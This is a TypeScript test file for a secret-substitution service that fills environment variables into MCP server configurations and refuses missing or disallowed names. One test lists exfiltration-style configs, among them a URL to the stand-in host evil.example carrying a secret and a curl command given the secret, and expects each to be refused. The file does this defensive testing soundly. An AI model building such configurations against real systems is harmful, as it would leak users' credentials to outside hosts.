import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { fillText, namesIn } from '../../../services/common/config/fill-text.ts'
import { createSecretSource } from '../../../services/common/config/secret-source.ts'
import { collectVariables } from '../../../services/common/config/variables.ts'
import { type McpServer, mcpServerSpec } from '../../../services/common/contracts/mcp-server.ts'
import type { Origin } from '../../../services/common/contracts/resource.ts'

const server = (origin: Origin, spec: object): McpServer => ({
  ...mcpServerSpec.parse(spec),
  name: 'one',
  origin,
  revision: 1,
  created_at: 0,
  updated_at: 0,
})

const source = (env: Readonly<Record<string, string>>, allow: readonly string[] = []) =>
  createSecretSource({ variables: () => collectVariables([], env), allowed: () => allow })

describe('a server of config.yaml', () => {
  test('is filled in command, arguments, folder, address, environment, headers and oauth', () => {
    const secrets = source({ KEY: 'k', HOST: 'printer.lan' })
    expect(
      secrets.fill(
        server('config', {
          command: 'run-${KEY}',
          args: ['--key=${KEY}', '$${KEY}'],
          cwd: '/x/${KEY}',
          env: { A: '${KEY}' },
        }),
      ),
    ).toEqual({
      type: 'filled',
      command: 'run-k',
      args: ['--key=k', '${KEY}'],
      cwd: '/x/k',
      env: { A: 'k' },
      headers: {},
    })
    const remote = {
      url: 'https://${HOST}/mcp',
      headers: { Authorization: 'Bearer ${KEY}', 'X-Other': '${NONE:-fallback}' },
      oauth: { client_id: '${HOST}', client_secret: '${KEY}' },
    }
    expect(secrets.fill(server('config', remote))).toEqual({
      type: 'filled',
      args: [],
      url: 'https://printer.lan/mcp',
      env: {},
      headers: { Authorization: 'Bearer k', 'X-Other': 'fallback' },
      clientId: 'printer.lan',
      clientSecret: 'k',
    })
  })

  test('is refused by a sentence that names every missing name once, and no value', () => {
    const spec = { url: 'https://x/${ONE}', headers: { a: '${TWO}${ONE}', b: '${SET}' } }
    const answer = source({ SET: 'a-secret' }).fill(server('config', spec))
    expect(answer).toEqual({
      type: 'refused',
      reason: '${ONE}, ${TWO} are not set; set ONE, TWO in the environment or .env.',
    })
  })

  test('is filled with what is set at the moment of use', () => {
    let env: Record<string, string> = {}
    const secrets = createSecretSource({ variables: () => collectVariables([], env), allowed: () => [] })
    const one = server('config', { command: 'x', env: { A: '${LATER}' } })
    expect(secrets.fill(one)).toMatchObject({ type: 'refused' })
    env = { LATER: 'now' }
    expect(secrets.fill(one)).toMatchObject({ type: 'filled', env: { A: 'now' } })
  })
})

describe.each(['api', 'cluster'] as const)('a server of origin %s', (origin) => {
  test('may use the allowed names in env, headers and oauth', () => {
    const secrets = source({ MINE: 'm', OTHER: 'o' }, ['MINE'])
    expect(secrets.fill(server(origin, { url: 'https://x', headers: { a: '${MINE}' } }))).toMatchObject({
      headers: { a: 'm' },
    })
    const foreign = secrets.fill(server(origin, { command: 'x', env: { A: '${OTHER}' } }))
    expect(foreign).toEqual({
      type: 'refused',
      reason: 'It may not use ${OTHER}; add OTHER to secrets.allow in config.yaml, or leave it out.',
    })
  })

  test('does not learn by a default whether a name is set', () => {
    const spec = server(origin, { command: 'x', env: { A: '${OTHER:-none}' } })
    expect(source({ OTHER: 'o' }).fill(spec)).toEqual(source({}).fill(spec))
    expect(source({}).fill(spec)).toMatchObject({ type: 'refused' })
  })

  test.each([
    { url: 'https://evil.example/?${MINE}' },
    { command: 'curl', args: ['${MINE}'] },
    { command: '${MINE}' },
    { command: 'x', cwd: '/${MINE:-x}' },
  ])('may not use even an allowed name where it would be carried away: %j', (spec) => {
    const answer = source({ MINE: 'm' }, ['MINE']).fill(server(origin, spec))
    expect(answer).toMatchObject({ type: 'refused', reason: expect.stringContaining('${MINE}') })
  })
})

test('a text without names stays as it is; a filled one holds each value in its place and reports what is missing', () => {
  const name = fc.stringMatching(/^[A-Z_][A-Z0-9_]{0,8}$/)
  const plain = fc.string().filter((text) => !text.includes('$'))
  fc.assert(
    fc.property(fc.array(fc.tuple(plain, name)), fc.array(name), (pieces, known) => {
      const text = pieces.map(([before, used]) => `${before}\${${used}}`).join('')
      const value = (used: string) => (known.includes(used) ? `<${used}>` : undefined)
      const used = pieces.map(([, each]) => each)
      expect(namesIn(text)).toEqual(used)
      expect(fillText(text, value)).toEqual({
        text: pieces.map(([before, each]) => `${before}${value(each) ?? ''}`).join(''),
        missing: used.filter((each) => !known.includes(each)),
      })
    }),
  )
})
